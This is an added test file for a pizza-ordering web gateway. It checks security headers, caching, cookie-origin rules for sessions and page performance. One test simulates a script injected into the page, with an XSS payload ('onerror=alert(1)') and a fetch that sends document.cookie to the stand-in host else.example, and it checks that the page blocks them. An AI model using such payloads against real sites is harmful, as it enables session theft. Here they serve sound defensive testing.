@@ -1,0 +1,149 @@
+"""What the gateway sends with a page, who may hold a session in a cookie, and what a script that got into a page would find."""
+import http.client
+import json
+import re
+
+from conftest import ANGERS, BASE, PASSWORD, Api, expect, sign_in
+
+HTML = "text/html,application/xhtml+xml,*/*;q=0.8"
+OWN = {"Origin": BASE, "Sec-Fetch-Site": "same-origin"}
+
+
+def ask(method, path, body=None, **headers):
+    connection = http.client.HTTPConnection(BASE.removeprefix("http://"), timeout=10)
+    data = None if body is None else json.dumps(body)
+    connection.request(method, path, data, {**({"Content-Type": "application/json"} if data else {}), **headers})
+    answer = connection.getresponse()
+    text = answer.read()
+    connection.close()
+    return answer, text
+
+
+def test_a_page_answers_only_where_html_is_asked_for():
+    for path in ("/", "/panier", "/commande/x", "/cuisine", "/caisse", "/livraison", "/gestion", "/gestion/stock", "/docs"):
+        answer, text = ask("GET", path, Accept=HTML)
+        assert answer.status == 200 and b"<!doctype html>" in text, path
+        answer, text = ask("GET", path, Accept="application/json")
+        assert answer.status == 404 and json.loads(text)["type"] == "/problems/not-found", path
+    # A path of the API stays what it is, even for a browser.
+    answer, _ = ask("GET", "/restaurants", Accept=HTML)
+    assert answer.getheader("Content-Type").startswith("application/json")
+    answer, _ = ask("POST", "/", Accept=HTML)
+    assert answer.status == 404
+    answer, text = ask("GET", "/nulle-part", Accept=HTML)
+    assert answer.status == 404 and b"<!doctype html>" in text
+    answer, text = ask("HEAD", "/", Accept=HTML)
+    assert answer.status == 200 and text == b""
+
+
+def test_every_page_has_a_strict_policy():
+    for path in ("/", "/cuisine", "/caisse", "/livraison", "/gestion"):
+        answer, text = ask("GET", path, Accept=HTML)
+        policy = answer.getheader("Content-Security-Policy")
+        assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'"), policy
+        assert "require-trusted-types-for 'script'" in policy and "unsafe" not in policy
+        assert answer.getheader("X-Content-Type-Options") == "nosniff"
+        assert answer.getheader("Cross-Origin-Opener-Policy") == "same-origin"
+        assert not re.search(rb"<script(?![^>]*src=)|\sstyle=|\son\w+=", text), "something stands inline"
+
+
+def test_what_has_a_hash_is_kept_for_ever_and_the_rest_is_asked_for():
+    answer, text = ask("GET", "/", Accept=HTML, **{"Accept-Encoding": "gzip"})
+    tag = answer.getheader("ETag")
+    assert answer.getheader("Cache-Control") == "no-cache"
+    answer, text = ask("GET", "/", Accept=HTML, **{"Accept-Encoding": "gzip", "If-None-Match": tag})
+    assert answer.status == 304 and text == b""
+    _, page = ask("GET", "/", Accept=HTML)
+    script = re.search(rb'src="(/assets/client-\w+\.js)"', page)[1].decode()
+    answer, text = ask("GET", script, **{"Accept-Encoding": "gzip"})
+    assert answer.getheader("Content-Encoding") == "gzip" and len(text) <= 85_000
+    assert answer.getheader("Cache-Control") == "public, max-age=31536000, immutable"
+
+
+def test_only_an_own_page_may_hold_a_session():
+    customer = Api.customer()
+    body = {"email": customer.account["email"], "password": PASSWORD}
+    answer, text = ask("POST", "/session", body, **OWN)
+    cookie = answer.getheader("Set-Cookie")
+    assert answer.status == 200 and "refreshToken" not in json.loads(text)
+    for part in ("__Secure-ocpizza-customer=", "Path=/session", "Secure", "HttpOnly", "SameSite=Strict"):
+        assert part in cookie, cookie
+    held = {"Cookie": cookie.split(";")[0]}
+    for wrong in ({}, {"Origin": BASE}, {"Sec-Fetch-Site": "same-origin"}, {"Origin": "https://else.example", "Sec-Fetch-Site": "same-origin"},
+                  {"Origin": BASE, "Sec-Fetch-Site": "cross-site"}, {"Origin": "null", "Sec-Fetch-Site": "same-origin"}):
+        for method in ("POST", "PUT", "DELETE"):
+            answer, _ = ask(method, "/session", body if method == "POST" else None, **wrong, **held)
+            assert answer.status == 403 and not answer.getheader("Set-Cookie"), (method, wrong)
+    answer, text = ask("PUT", "/session", **OWN, **held)
+    assert answer.status == 200 and json.loads(text)["account"]["id"] == customer.account["id"]
+    # The cookie of a customer opens no board.
+    answer, _ = ask("PUT", "/session?of=staff", **OWN, **held)
+    assert answer.status == 401
+    held = {"Cookie": answer.getheader("Set-Cookie").split(";")[0]} if answer.getheader("Set-Cookie") else held
+    answer, _ = ask("DELETE", "/session", **OWN, **held)
+    assert answer.status == 204 and "Max-Age=0" in answer.getheader("Set-Cookie")
+    answer, _ = ask("PUT", "/session?of=else", **OWN)
+    assert answer.status == 422
+
+
+def test_a_script_that_got_in_finds_nothing_and_reaches_nobody(person):
+    """A page that somebody stole into: what it could write is not run, and what it looks for is not there."""
+    customer = Api.customer()
+    page = person()
+    sign_in(page, customer.account["email"], "/compte")
+    found = page.evaluate("""async () => {
+      const reports = []
+      document.addEventListener("securitypolicyviolation", event => reports.push(event.effectiveDirective))
+      const refused = name => act => { try { act(); return name + " was done" } catch (error) { return error.name } }
+      const markup = refused("innerHTML")(() => { document.body.innerHTML = "<img src=x onerror=alert(1)>" })
+      const code = refused("text")(() => { setTimeout("window.stolen = 1", 0) })
+      const inline = document.createElement("script")
+      const script = refused("script")(() => { inline.textContent = "window.stolen = 1"; document.body.append(inline) })
+      const sent = await fetch("https://else.example/?" + document.cookie).then(() => "sent", error => error.name)
+      const image = new Image(); image.src = "https://else.example/x.png"
+      await new Promise(done => setTimeout(done, 300))
+      return { markup, code, script, sent, stolen: window.stolen ?? null, cookie: document.cookie,
+        kept: Object.values({ ...localStorage, ...sessionStorage }).join(" "), reports }
+    }""")
+    page.ignored()
+    assert found["markup"] == "TypeError" and found["code"] == "TypeError", found
+    assert found["sent"] == "TypeError" and found["stolen"] is None, found
+    assert found["cookie"] == "" and "eyJ" not in found["kept"], found
+    assert {"connect-src", "img-src"} <= set(found["reports"]), found
+
+
+def test_the_page_of_the_api_shows_it(person):
+    page = person(1280, 900)
+    page.goto("/docs")
+    expect(page.get_by_text("/orders/{id}").first).to_be_visible()
+    page.get_by_text("Place an order", exact=True).click()
+    expect(page.get_by_text("Idempotency-Key").first).to_be_visible()
+
+
+def test_the_first_page_takes_little_of_the_processor(person):
+    """CPU of the main thread until somebody can click: the least of eight visits, since the machine is shared."""
+    times = []
+    for _ in range(8):
+        page = person()
+        client = page.context.new_cdp_session(page)
+        client.send("Performance.enable", {"timeDomain": "threadTicks"})
+        page.goto("/")
+        expect(page.get_by_role("link", name="Voir la carte : OC Pizza Angers")).to_be_visible()
+        metrics = {one["name"]: one["value"] for one in client.send("Performance.getMetrics")["metrics"]}
+        times.append(round(metrics["TaskDuration"] * 1000))
+        page.context.close()
+    print("ms of CPU to the first click", sorted(times))
+    assert min(times) <= 120, times
+
+
+def test_nothing_moves_while_a_page_comes(person):
+    page = person()
+    page.add_init_script("""
+      window.shift = 0
+      new PerformanceObserver(list => { for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shift += entry.value })
+        .observe({ type: "layout-shift", buffered: true })""")
+    for path in ("/", f"/carte/{ANGERS}"):
+        page.goto(path)
+        page.wait_for_load_state("networkidle")
+        page.wait_for_timeout(400)
+        assert page.evaluate("window.shift") <= 0.02, path
